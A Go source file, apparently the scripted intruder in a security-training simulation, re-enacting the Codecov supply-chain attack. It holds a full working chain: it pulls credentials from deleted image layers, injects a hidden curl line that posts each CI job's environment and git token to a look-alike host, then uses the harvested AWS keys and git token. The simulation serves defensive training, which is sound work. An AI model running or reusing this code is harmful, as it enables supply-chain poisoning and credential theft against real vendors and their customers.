// Package actors is Poisoned Uploader's intruder, re-enacting the 2021
// Codecov compromise: a secret left in an early layer of the vendor's
// published image opens the vendor's storage; one line added to the bash
// uploader there posts every CI job's environment to a look-alike host;
// the harvested keys are then used against the customers' clouds and
// repositories, again each time the intruder comes back.
package actors

import (
	"archive/tar"
	"bytes"
	"context"
	"errors"
	"fmt"
	"io"
	"net/http"
	"regexp"
	"strings"
	"time"

	"github.com/sakimori/sakimori/sim/aws/client"
	"github.com/sakimori/sakimori/sim/labkit"
)

func init() {
	labkit.RegisterScript("uploader-intruder", intruder)
}

// ExfilLine is the line the intruder adds, as Codecov's was changed: the
// job's git remote (with its clone token) and its whole environment, sent
// with a short timeout and errors ignored so no build ever notices.
const ExfilLine = `curl -sm 0.5 -d "$(git remote -v)<<<<<< ENV $(env)" http://uploads.coverlytics-io.example/upload/v2 || true`

// ImagePath is where the vendor publishes its uploader image.
const ImagePath = "/downloads/coverlytics-uploader-1.0.3.tar"

const kaliUA = "aws-cli/2.13.5 Python/3.11.4 Linux/6.5.0-kali2-amd64 exe/x86_64.kali.2023 prompt/off command/"

func intruder(ctx context.Context, env labkit.Env) error {
	if !labkit.Sleep(ctx, labkit.Duration(env, "DELAY", 40*time.Second)) {
		return nil
	}
	hc := &http.Client{Timeout: 20 * time.Second}
	for ctx.Err() == nil {
		if err := poison(ctx, hc, env); err != nil {
			labkit.Logger.Info("intruder: poisoning failed, trying again", "err", err)
			labkit.Sleep(ctx, 30*time.Second)
			continue
		}
		break
	}
	// Harvest, then use what works, and come back: keys that still work
	// are used again until someone rotates them.
	used := map[string]bool{}
	for labkit.Sleep(ctx, 30*time.Second) {
		loot, err := harvest(hc, env)
		if err != nil {
			labkit.Logger.Info("intruder: harvest failed", "err", err)
			continue
		}
		for _, dump := range loot {
			if creds := client.KeysIn([]byte(dump)); creds != nil && !used["aws"] {
				used["aws"] = useCloud(ctx, env, creds)
			}
			if tok := gitToken.FindStringSubmatch(dump); tok != nil && !used["git"] {
				used["git"] = useGit(hc, env, tok[1])
			}
		}
		if used["aws"] && used["git"] {
			if !labkit.Sleep(ctx, 3*time.Minute) {
				return nil
			}
			used = map[string]bool{}
		}
	}
	return nil
}

var gitToken = regexp.MustCompile(`(?m)^GIT_TOKEN=(\S+)`)

// poison takes the release key out of the vendor's image and adds the
// line to the published uploader, unless it is there already.
func poison(ctx context.Context, hc *http.Client, env labkit.Env) error {
	archive, err := fetch(hc, env("VENDOR")+ImagePath, "")
	if err != nil {
		return err
	}
	creds, err := keyInLayers(archive)
	if err != nil {
		return err
	}
	store := &client.Client{Endpoint: env("VENDOR_STORE"), Creds: creds, UserAgent: kaliUA + "s3.cp"}
	labkit.Sleep(ctx, 2*time.Second)
	cur, err := store.S3("GET", "/coverlytics-uploader/bash", nil)
	if err != nil || !cur.OK() {
		return fmt.Errorf("read the uploader: %v %v", cur, err)
	}
	if bytes.Contains(cur.Body, []byte(ExfilLine)) {
		return nil
	}
	labkit.Sleep(ctx, 3*time.Second)
	store.Header = http.Header{"X-Amz-Acl": {"public-read"}, "Content-Type": {"text/x-sh"}}
	res, err := store.S3("PUT", "/coverlytics-uploader/bash", Poisoned(cur.Body))
	if err == nil && !res.OK() {
		err = fmt.Errorf("write the uploader: %s", res)
	}
	return err
}

// Poisoned is script with ExfilLine added just before its upload, where a
// reader skimming the script least expects a second curl.
func Poisoned(script []byte) []byte {
	lines := strings.Split(string(script), "\n")
	at := len(lines) - 1
	for i, l := range lines {
		if strings.Contains(l, "/upload/v2") {
			at = i
			break
		}
	}
	out := append([]string{}, lines[:at]...)
	out = append(out, ExfilLine)
	return []byte(strings.Join(append(out, lines[at:]...), "\n"))
}

// keyInLayers reads a `docker save` archive layer by layer, as an
// attacker with dive or tar does, for a key file a later layer deleted.
func keyInLayers(archive []byte) (*client.Credentials, error) {
	outer := tar.NewReader(bytes.NewReader(archive))
	for {
		h, err := outer.Next()
		if errors.Is(err, io.EOF) {
			return nil, errors.New("no key in any layer")
		}
		if err != nil {
			return nil, err
		}
		if h.Typeflag != tar.TypeReg {
			continue
		}
		layer, err := io.ReadAll(io.LimitReader(outer, 64<<20))
		if err != nil {
			return nil, err
		}
		inner := tar.NewReader(bytes.NewReader(layer))
		for {
			f, err := inner.Next()
			if err != nil {
				break // not a layer, or its end
			}
			if strings.HasSuffix(f.Name, ".aws/credentials") {
				body, _ := io.ReadAll(inner)
				if creds := client.KeysIn(body); creds != nil {
					return creds, nil
				}
			}
		}
	}
}

// harvest reads the collector's uploads with the intruder's own key.
func harvest(hc *http.Client, env labkit.Env) ([]string, error) {
	body, err := fetch(hc, env("COLLECTOR")+"/", env("COLLECTOR_KEY"))
	if err != nil {
		return nil, err
	}
	return strings.Split(string(body), "<<<<<< ENV"), nil
}

func fetch(hc *http.Client, url, bearer string) ([]byte, error) {
	req, err := http.NewRequest(http.MethodGet, url, nil)
	if err != nil {
		return nil, err
	}
	req.Header.Set("User-Agent", "curl/8.4.0")
	if bearer != "" {
		req.Header.Set("Authorization", "Bearer "+bearer)
	}
	resp, err := hc.Do(req)
	if err != nil {
		return nil, err
	}
	defer resp.Body.Close()
	body, err := io.ReadAll(io.LimitReader(resp.Body, 64<<20))
	if err == nil && resp.StatusCode != http.StatusOK {
		err = fmt.Errorf("%s: %s", url, resp.Status)
	}
	return body, err
}

// useCloud tries the stolen key and takes what it reaches; it reports
// whether the key worked.
func useCloud(ctx context.Context, env labkit.Env, creds *client.Credentials) bool {
	c := &client.Client{Endpoint: env("CLOUD"), Creds: creds, UserAgent: kaliUA + "sts.get-caller-identity"}
	res, err := c.Query("sts", "GetCallerIdentity", nil)
	if err != nil || !res.OK() {
		return false
	}
	pause := func() { labkit.Sleep(ctx, 900*time.Millisecond) }
	pause()
	c.UserAgent = kaliUA + "s3.ls"
	_, _ = c.S3("GET", "/", nil)
	pause()
	_, _ = c.S3("GET", "/acme-releases?list-type=2&prefix=&delimiter=%2F", nil)
	pause()
	_, _ = c.S3("GET", "/acme-releases?list-type=2&prefix=internal%2F", nil)
	c.UserAgent = kaliUA + "s3.cp"
	for _, key := range []string{"internal/signing-key.pem", "internal/flag.txt"} {
		pause()
		_, _ = c.S3("GET", "/acme-releases/"+key, nil)
	}
	return true
}

// useGit clones the private infrastructure repository with the stolen
// token, as git does over HTTP: its refs, then its objects.
func useGit(hc *http.Client, env labkit.Env, token string) bool {
	req, _ := http.NewRequest(http.MethodGet, env("CI")+"/acme/infra.git/info/refs", nil)
	req.SetBasicAuth("release-bot", token)
	req.Header.Set("User-Agent", "git/2.43.0")
	resp, err := hc.Do(req)
	if err != nil {
		return false
	}
	resp.Body.Close()
	return resp.StatusCode == http.StatusOK
}
